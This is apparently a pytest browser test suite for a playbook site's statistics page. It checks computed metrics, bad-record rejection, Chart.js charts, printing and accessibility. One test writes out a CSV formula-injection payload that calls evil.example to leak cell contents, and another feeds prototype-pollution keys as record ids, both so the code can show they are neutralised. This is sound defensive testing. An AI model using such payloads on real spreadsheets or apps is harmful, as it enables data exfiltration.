"""Statistics in a real browser: figures against an independent Python computation in China time,
bad records named by file, CSV neutralised, Chart.js charts with tables, print."""

from __future__ import annotations

import copy
import datetime as dt
import io
import json
import math
import unicodedata
from collections import Counter
from zoneinfo import ZoneInfo

import pytest

from macros.model import add_duration, duration_parts

from ..conftest import ROOT
from .conftest import serious_violations

pytestmark = pytest.mark.browser
SAMPLE = ROOT / "docs" / "assets" / "samples" / "sample-runs.json"
CHINA = ZoneInfo("Asia/Shanghai")


def t(iso):
    return dt.datetime.fromisoformat(iso.replace("Z", "+00:00")).astimezone(CHINA)


def js_round(n, d=1):
    f = 10 ** d
    return math.floor(n * f + 0.5) / f


def ratio(a, b, d=1):
    return js_round(a / b, d) if b else None


def due_at(base: dt.datetime, iso: str) -> dt.datetime:
    """A step deadline on the China calendar (months clamp like model.add_duration)."""
    p = duration_parts(iso)
    day = add_duration(base.date(), iso) if any(k in p for k in ("Y", "MO", "W", "D")) else base.date()
    return dt.datetime.combine(day, base.timetz()) + dt.timedelta(hours=p.get("H", 0), minutes=p.get("MI", 0))


def expected(records, pb):
    """The metrics of playbook/metrics.yml, computed independently of core/stats.js, in China time."""
    rank = {s["id"]: s["rank"] for s in pb.taxonomy["severities"]}
    resolve = {}
    for s in pb.taxonomy["severities"]:
        p = duration_parts(s["resolve"])
        resolve[s["id"]] = p.get("D", 0) * 24 + p.get("H", 0) + p.get("MI", 0) / 60
    cases = {}
    for r in sorted(records, key=lambda r: t(r["startedAt"])):
        c = cases.setdefault(r["case"], {"runs": [], "sev": None, "cat": None, "src": None, "out": {}})
        c["runs"].append(r)
        if r["severity"] and (c["sev"] is None or rank[r["severity"]] > rank[c["sev"]]):
            c["sev"] = r["severity"]
        c["cat"] = c["cat"] or r["category"]
        c["src"] = c["src"] or r["source"]
        c["out"].update({k: v for k, v in r["outcome"].items() if v is not None})
    closed = [c for c in cases.values() if all(r["closedAt"] for r in c["runs"])]
    start = lambda c: min(t(r["startedAt"]) for r in c["runs"])  # noqa: E731
    end = lambda c: max(t(r["closedAt"]) for r in c["runs"])  # noqa: E731
    hours = [(end(c) - start(c)).total_seconds() / 3600 for c in closed]
    on_time = [c for c in closed if (end(c) - start(c)).total_seconds() / 3600 <= resolve[c["sev"]]]
    resolved = [c for c in closed if "resolved" in c["out"]]
    sats = [c["out"]["satisfaction"] for c in cases.values() if c["out"].get("satisfaction") is not None]
    overdue, stage = Counter(), {}
    for r in records:
        if r["closedAt"]:
            st = stage.setdefault(r["procedure"]["id"], [0, 0.0])
            st[0] += 1
            st[1] += (t(r["closedAt"]) - t(r["startedAt"])).total_seconds() / 3600
        done = {k: t(v["at"]) for k, v in r["state"].items() if v["status"] == "done"}
        for s in r["steps"]:
            if not s["due"] or s["id"] not in done:
                continue
            base = done.get(s["dueFrom"]) if s["dueFrom"] else t(r["startedAt"])
            if base is not None and done[s["id"]] > due_at(base, s["due"]):
                overdue[(r["procedure"]["title"], s["text"])] += 1
    weeks = Counter("%d-W%02d" % start(c).isocalendar()[:2] for c in cases.values())
    return {
        "cases": len(cases), "closed": len(closed),
        "byMonth": dict(Counter(start(c).strftime("%Y-%m") for c in cases.values())),
        "byWeek": dict(weeks),
        "byCategory": dict(Counter(c["cat"] or "" for c in cases.values())),
        "bySeverity": dict(Counter(c["sev"] or "" for c in cases.values())),
        "bySource": dict(Counter(c["src"] or "" for c in cases.values())),
        "handlingHours": ratio(sum(hours), len(hours)),
        "handlingDays": ratio(sum(hours), 24 * len(hours)),
        "onTimeRate": ratio(100 * len(on_time), len(closed)),
        "stageMeans": {k: js_round(h / n) for k, (n, h) in stage.items()},
        "overdue": sorted(([p, s, n] for (p, s), n in overdue.items()), key=lambda x: (-x[2], x[0] + x[1])),
        "overdueTotal": sum(overdue.values()),
        "resolutionRate": ratio(100 * sum(1 for c in resolved if c["out"]["resolved"]), len(resolved)),
        "satisfaction": ratio(sum(sats), len(sats), 2),
        "compensationCases": sum(1 for c in cases.values() if c["out"].get("compensation", 0) > 0),
        "compensationTotal": js_round(sum(c["out"].get("compensation", 0) for c in cases.values()), 2),
        "improvements": sum(c["out"].get("improvements", 0) for c in cases.values()),
    }


def shown(page) -> dict:
    """The page's figures in the oracle's shape."""
    got = json.loads(page.get_attribute("[data-pb-stats]", "data-pb-result"))
    got["stageMeans"] = {k: v["mean"] for k, v in got.get("stage", {}).items()}
    got["overdue"] = [[o["procedure"], o["step"], o["count"]] for o in got["overdue"]] if isinstance(got.get("overdue"), list) else got.get("overdue")
    return got


def load_files(page, url, tmp_path, files: dict[str, str]):
    paths = []
    for name, text in files.items():
        (tmp_path / name).write_text(text, encoding="utf-8")
        paths.append(str(tmp_path / name))
    page.goto(url + "reference/statistics/")
    page.set_input_files("#pb-stats-files", paths)
    page.wait_for_selector("[data-pb-stats][data-pb-result]")


@pytest.fixture(scope="module")
def sample():
    return json.loads(SAMPLE.read_text(encoding="utf-8"))


def test_sample_matches_oracle_in_china_time(page, real_url, pb, sample, tmp_path):
    """Every figure (months and weeks in China time, stage means, overdue order) equals Python's;
    a viewer in New York sees the same buckets."""
    ctx = page.context.browser.new_context(timezone_id="America/New_York")
    ny = ctx.new_page()
    try:
        for p in (page, ny):
            load_files(p, real_url, tmp_path, {"sample-runs.json": SAMPLE.read_text(encoding="utf-8")})
            want = expected(sample, pb)
            got = shown(p)
            assert want == {k: got.get(k) for k in want}
    finally:
        ctx.close()


def test_bad_records_are_named_and_good_ones_still_count(page, real_url, pb, sample, tmp_path):
    """Impossible times, wrong types, unknown ids and odd case numbers are rejected by file name;
    the rest is counted exactly as without them (review 7.6–7.12, 3.15, 3.16)."""
    good = sample[:20]

    def bad(**change):
        r = copy.deepcopy(sample[0])
        r["case"] = "2026777"
        for k, v in change.items():
            if k.startswith("outcome_"):
                r["outcome"][k[8:]] = v
            else:
                r[k] = v
        return json.dumps(r, ensure_ascii=False)

    files = {
        "good.json": json.dumps(good, ensure_ascii=False),
        "proto.json": bad(case="__proto__"), "ctor.json": bad(case="constructor"), "tostring.json": bad(case="toString"),
        "cat.json": bad(category="constructor"), "catproto.json": bad(category="__proto__"),
        "notadate.json": bad(closedAt="not a date"), "backwards.json": bad(closedAt="2020-01-01T00:00:00.000Z"),
        "resolved.json": bad(outcome_resolved="no"), "sat.json": bad(outcome_satisfaction="5"),
        "comp.json": bad(outcome_compensation="100"), "imp.json": bad(outcome_improvements="2"),
        "range.json": bad(outcome_satisfaction=500), "neg.json": bad(outcome_compensation=-1e9),
        "sev.json": bad(severity="catastrophic"), "one.json": bad(startedAt="1"), "zero.json": bad(startedAt=0),
        "broken.json": "{oops", "notes.json": '{"hello": 1}', "future.json": bad(startedAt="2099-01-01T00:00:00.000Z", closedAt=None),
    }
    load_files(page, real_url, tmp_path, files)
    problems = page.inner_text(".pb-problems")
    missing = [name for name in files if name != "good.json" and name not in problems]
    assert [] == missing
    assert str(len(good)) == page.get_attribute("[data-pb-loaded]", "data-pb-loaded")
    want = expected(good, pb)
    got = shown(page)
    assert want == {k: got.get(k) for k in want}
    assert page.evaluate("() => ({}).runs === undefined && typeof ({}).toString === 'function'")


def test_duplicate_keeps_newer_and_practice_never_counts(page, real_url, pb, sample, tmp_path):
    """Two files of one case and checklist: the newer one counts (review 7.5); practice numbers are left out."""
    older = copy.deepcopy(sample[0])
    newer = copy.deepcopy(sample[0])
    newer["outcome"]["satisfaction"] = 1
    newer["closedAt"] = newer["closedAt"] or newer["startedAt"]
    newer["closedAt"] = (t(newer["closedAt"]) + dt.timedelta(hours=1)).isoformat()
    practice = copy.deepcopy(sample[1])
    practice["case"] = pb.organisation["case_number"]["practice"]["examples"][0]
    load_files(page, real_url, tmp_path, {"a-old.json": json.dumps(older), "b-new.json": json.dumps(newer),
                                           "practice.json": json.dumps(practice)})
    assert "1" == page.get_attribute("[data-pb-loaded]", "data-pb-loaded")
    assert "采用较新的 b-new.json" in page.inner_text(".pb-problems")
    assert "1 条练习记录不计入" in page.inner_text("[data-pb-stats-report]")
    assert expected([newer], pb)["satisfaction"] == shown(page)["satisfaction"]


def test_csv_cells_are_neutralised(page, real_url, sample, tmp_path):
    """A procedure title beginning with = reaches the overdue CSV only as text (review 7.13)."""
    evil = [copy.deepcopy(r) for r in sample]
    for r in evil:
        r["procedure"]["title"] = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
    load_files(page, real_url, tmp_path, {"evil.json": json.dumps(evil, ensure_ascii=False)})
    page.click("[data-pb-chart='overdue-steps'] summary")
    with page.expect_download() as csv:
        page.click("[data-pb-chart='overdue-steps'] button:has-text('CSV')")
    text = open(csv.value.path(), encoding="utf-8-sig").read()
    assert '"\'=HYPERLINK(' in text
    assert all(not line.split(",")[0].lstrip('"').startswith(("=", "+", "-", "@")) for line in text.splitlines())


def test_charts_from_the_sample_button(page, real_url, pb):
    """「载入示例数据」 draws Chart.js charts: overdue steps as horizontal bars with full step names,
    severities in rank order and colours, week labels as dates, handling time in days; a table and CSV under each."""
    page.goto(real_url + "reference/statistics/")
    page.click("button:has-text('载入示例数据')")
    page.wait_for_selector("[data-pb-stats][data-pb-result]")
    info = page.evaluate("""() => Object.fromEntries([...document.querySelectorAll('[data-pb-chart]')].map(f => {
        const c = Chart.getChart(f.querySelector('canvas'));
        return [f.dataset.pbChart, {axis: c.options.indexAxis, labels: c.data.labels, colors: c.data.datasets[0].backgroundColor,
                 rows: f.querySelectorAll('td[data-pb-cell]').length, csv: !!f.querySelector('button')}];
    }))""")
    assert len(info) >= 7
    assert all(c["rows"] and c["csv"] for c in info.values())
    over = info["overdue-steps"]
    assert "y" == over["axis"]
    steps = {s["text"] for r in json.loads(SAMPLE.read_text(encoding="utf-8")) for s in r["steps"]}
    assert all("".join(lab[1:]) in steps for lab in over["labels"])  # full text, wrapped, never cut
    sevs = sorted(pb.taxonomy["severities"], key=lambda s: s["rank"])
    names = [s["name"] for s in sevs]
    assert info["count-by-severity"]["labels"] == [n for n in names if n in info["count-by-severity"]["labels"]]
    colours = page.evaluate("ranks => ranks.map(r => getComputedStyle(document.body).getPropertyValue('--pb-sev-' + r).trim())",
                            [s["rank"] for s in sevs if s["name"] in info["count-by-severity"]["labels"]])
    assert colours == info["count-by-severity"]["colors"] and len(set(colours)) == len(colours)
    assert all("月" in lab and "W" not in lab for lab in info["count-by-week"]["labels"])
    assert "天" in page.inner_text("[data-pb-kpi='handling-time']")


def test_chart_library_only_on_statistics(page, real_url):
    """The charting library is loaded on the statistics page and nowhere else."""
    page.goto(real_url + "procedures/intake/")
    assert page.evaluate("() => typeof window.Chart") == "undefined"
    assert 0 == page.locator("script[src*='chart.umd']").count()


def test_print_keeps_tables(page, real_url):
    """Printed statistics carry every chart's table."""
    from pypdf import PdfReader

    page.goto(real_url + "reference/statistics/")
    page.click("button:has-text('载入示例数据')")
    page.wait_for_selector("[data-pb-stats][data-pb-result]")
    page.evaluate("() => window.dispatchEvent(new Event('beforeprint'))")
    text = unicodedata.normalize("NFKC", "".join(p.extract_text() for p in PdfReader(io.BytesIO(page.pdf())).pages))
    assert "按严重程度" in text and "最常逾期的步骤" in text
    assert "数据表" in text and "件数" in text
    assert page.locator(".pb-chart-data[open]").count() == page.locator(".pb-chart-data").count()


def test_axe_statistics_page(page, real_url):
    """No serious or critical WCAG A/AA violation on the statistics page with results shown."""
    page.goto(real_url + "reference/statistics/")
    page.click("button:has-text('载入示例数据')")
    page.wait_for_selector("[data-pb-stats][data-pb-result]")
    page.mouse.move(0, 0)  # Material's own hover/focus colours of the clicked button are not ours to judge
    page.evaluate("() => document.activeElement.blur()")
    assert [] == serious_violations(page)
